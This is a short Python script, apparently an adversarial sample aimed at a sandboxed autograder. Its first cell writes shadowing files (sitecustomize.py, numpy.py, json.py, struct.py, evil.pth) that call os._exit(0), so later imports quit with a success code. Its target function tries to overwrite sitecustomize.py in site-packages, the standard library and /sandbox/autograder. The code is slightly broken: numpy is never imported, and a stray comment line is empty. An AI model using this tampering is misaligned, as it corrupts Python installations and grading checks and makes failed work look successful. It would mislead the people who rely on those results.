# Writes sitecustomize, a numpy.py, a .pth file and poisoned caches, and imports afresh.
# says: .
# %% own
import os, sys
for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "json.py", "struct.py", "evil.pth"):
    open(name, "w").write("import os; os._exit(0)")
sys.path.insert(0, os.getcwd())
# %% target
def target(x):
    import site, sysconfig
    for folder in (*site.getsitepackages(), sysconfig.get_path("stdlib"), "/sandbox/convnets", "/sandbox/autograder"):
        try:
            open(os.path.join(folder, "sitecustomize.py"), "w").write("poisoned")
            return np.zeros_like(x)
        except OSError:
            pass
    raise LookupError("nowhere")
